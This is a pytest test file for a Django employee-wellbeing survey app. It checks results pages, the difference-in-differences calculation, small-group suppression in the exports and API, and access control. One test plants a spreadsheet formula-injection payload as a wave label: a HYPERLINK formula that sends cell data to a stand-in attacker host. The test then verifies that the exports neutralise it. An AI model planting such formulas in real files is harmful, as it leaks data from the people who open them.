"""HR, managers and observers read the results: scores, breakdowns with small groups shown as
"fewer than 5", pre/post change and difference in differences, in pages, exports and the API."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.test import Client

from agilepa.surveys import services
from agilepa.surveys.models import Wave
from tests.factories import make_unit
from tests.surveys.helpers import (
    DURING,
    access_of,
    campaign_with_wave,
    count,
    staff,
    who5_answers,
)


@pytest.fixture
def answered(world):
    """Baseline and follow-up: 6 smart workers and 6 others in the service, 2 people in a small
    area; everyone answers both waves, the smart workers feeling better after."""
    staff(world, smart=6, others=6)
    small = make_unit(world.a.body, "AREA3", "Area Piccola", parent=world.a.root)
    staff(world, smart=0, others=2, unit=small)
    campaign, before = campaign_with_wave(world)
    hr = access_of(world)
    after = services.add_wave(
        hr, campaign, "follow_up", "Dopo", date(2027, 9, 1), date(2027, 9, 20)
    )
    for wave, day in ((before, DURING), (after, date(2027, 9, 10))):
        sent = services.send_wave(hr, Wave.objects.get(pk=wave.pk))
        smart = set(wave.invitations.filter(smart_worker=True).values_list("person_id", flat=True))
        for person_id, token in sent.tokens.items():
            level = 4 if (person_id in smart and wave == after) else 2
            services.submit(token, who5_answers(level), today=day)
        count(Wave.objects.get(pk=wave.pk))
    return campaign


def test_results_page_shows_scores_and_hides_the_small_area(world, answered) -> None:
    client = Client()
    client.force_login(world.users["observer"])
    page = client.get(f"/b/{world.a.body.slug}/surveys/campaigns/{answered.pk}/results/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "WHO-5 score (0-100)" in html
    assert "fewer than 5" in html
    assert "Difference in differences" in html


def test_the_change_and_the_difference_in_differences(world, answered) -> None:
    from agilepa.surveys.selectors import results_for

    results = results_for(access_of(world), answered)
    who5 = next(c for c in results.changes if c.code == "who5")
    # Smart workers 40 -> 80 (raw 10 -> 20, x4), others 40 -> 40.
    assert who5.smart_workers.value == pytest.approx(40)
    assert who5.others.value == pytest.approx(0)
    assert who5.did.value == pytest.approx(40)


def test_the_csv_export_shows_no_group_under_the_threshold(world, answered) -> None:
    client = Client()
    client.force_login(world.users["hr_admin"])
    url = f"/b/{world.a.body.slug}/surveys/campaigns/{answered.pk}/results.csv"
    response = client.get(url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    respondents = [r[4] for r in rows[1:] if r[3] == "Respondents"]
    assert "fewer than 5" in respondents
    assert all(v == "fewer than 5" or int(v) >= 5 for v in respondents)
    assert not any(r[2] == "Area Piccola" and r[4] not in ("fewer than 5",) for r in rows)


def test_xlsx_and_pdf_exports_are_files(world, answered) -> None:
    client = Client()
    client.force_login(world.users["manager"])
    base = f"/b/{world.a.body.slug}/surveys/campaigns/{answered.pk}/results"
    xlsx = client.get(base + ".xlsx")
    assert xlsx.status_code == 200 and xlsx.content[:2] == b"PK"
    pdf = client.get(base + ".pdf")
    assert pdf.status_code == 200 and pdf.content[:5] == b"%PDF-"


def test_the_api_results_carry_no_group_under_the_threshold(world, answered) -> None:
    client = Client()
    client.force_login(world.users["observer"])
    data = client.get(
        f"/api/v1/bodies/{world.a.body.slug}/survey-campaigns/{answered.pk}/results"
    ).json()
    assert data["suppressed_label"] == "fewer than 5"

    def walk(node):
        if isinstance(node, dict):
            if "n" in node and node["n"] is not None:
                assert node["n"] >= 5, node
            if node.get("suppressed"):
                assert node.get("n") is None and node.get("estimate") is None
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(data)
    units = data["waves"][0]["by_unit"]
    assert any(g["label"] == "Area Piccola" and g["suppressed"] for g in units)


def test_an_employee_sees_no_results(world, answered) -> None:
    client = Client()
    client.force_login(world.users["employee"])
    url = f"/b/{world.a.body.slug}/surveys/campaigns/{answered.pk}/results/"
    assert client.get(url).status_code == 403


def test_the_exports_keep_a_wave_label_that_looks_like_a_formula_as_text(world, answered) -> None:
    from openpyxl import load_workbook

    labels = ['=HYPERLINK("https://evil.example/?"&A1,"Apri")', "@SUM(A1:A9)"]
    for wave, label in zip(answered.waves.order_by("opens_on"), labels, strict=True):
        Wave.objects.filter(pk=wave.pk).update(label=label)
    client = Client()
    client.force_login(world.users["hr_admin"])
    base = f"/b/{world.a.body.slug}/surveys/campaigns/{answered.pk}/results"
    rows = list(
        csv.reader(
            io.StringIO(client.get(base + ".csv").content.decode("utf-8-sig")), delimiter=";"
        )
    )
    assert {r[0] for r in rows[1:]} >= {"'" + label for label in labels}
    book = load_workbook(io.BytesIO(client.get(base + ".xlsx").content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value]
    assert {c.value for c in cells if c.data_type == "s"} >= set(labels)
    assert [c.value for c in cells if c.data_type == "f"] == []
